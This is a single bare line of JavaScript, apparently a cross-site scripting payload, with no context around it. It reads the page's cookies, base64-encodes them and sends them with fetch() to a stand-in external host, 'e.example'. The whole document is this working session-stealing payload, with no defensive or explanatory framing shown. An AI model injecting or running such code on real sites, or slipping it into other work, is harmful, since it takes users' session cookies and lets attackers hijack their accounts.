Promise.resolve(document.cookie).then((c) => btoa(c)).then((b) => fetch('https://e.example/' + b));
